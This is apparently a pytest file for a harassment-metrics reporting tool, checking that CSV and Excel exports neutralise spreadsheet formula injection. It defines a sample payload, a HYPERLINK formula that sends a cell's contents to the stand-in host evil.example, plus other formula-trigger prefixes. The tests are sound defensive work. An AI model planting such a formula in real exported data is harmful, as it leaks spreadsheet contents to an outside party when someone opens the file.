"""common/cells.py: a cell from the data never leaves as a spreadsheet formula, in CSV or in the workbook."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from kasuhara_metrics.cli import main
from kasuhara_metrics.judge import judge
from kasuhara_metrics.report import Week, write_report
from kasuhara_metrics.rules import load_profile

from .conftest import ingest, write

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"詳細")'


@pytest.mark.parametrize("value", [EVIL, "+81-3", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_csv_output_makes_formula_cells_text(db_path, value):
    runner = CliRunner()
    runner.invoke(main, ["--db", db_path, "migrate"], catch_exceptions=False)
    literal = "'" + value.replace("'", "''") + "'"
    result = runner.invoke(
        main, ["--db", db_path, "query", "--format", "csv", f"SELECT {literal} AS x"], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    assert list(csv.reader(io.StringIO(result.output, newline="")))[1] == ["'" + value.replace("\r", "\n")]


def test_a_department_named_as_a_formula_is_text_in_the_workbook(db, tmp_path):
    visits = (
        "visit_id,arrived_at,ended_at,department,kind,topic,phone\n"
        f'V1,2026-09-16 10:00,2026-09-16 11:30,"{EVIL.replace(chr(34), chr(34) * 2)}",苦情,住民税,09012345678\n'
    )
    ingest(db, "visits", write(tmp_path, "v.csv", visits))
    # A department of the departments list reaches the report by name (typed free text only as a code).
    ingest(
        db, "departments", write(tmp_path, "d.csv", f'number,department\n201,"{EVIL.replace(chr(34), chr(34) * 2)}"\n')
    )
    judge(db, load_profile())
    files = write_report(db, load_profile(), Week.parse("2026-W38", "Asia/Tokyo"), tmp_path / "out")
    cells = [cell for row in load_workbook(files.workbook)["部署別"].iter_rows(min_row=2) for cell in row]
    department = next(cell for cell in cells if cell.value == EVIL)
    assert department.data_type == "s"  # text, not "f": no formula runs when a manager opens it
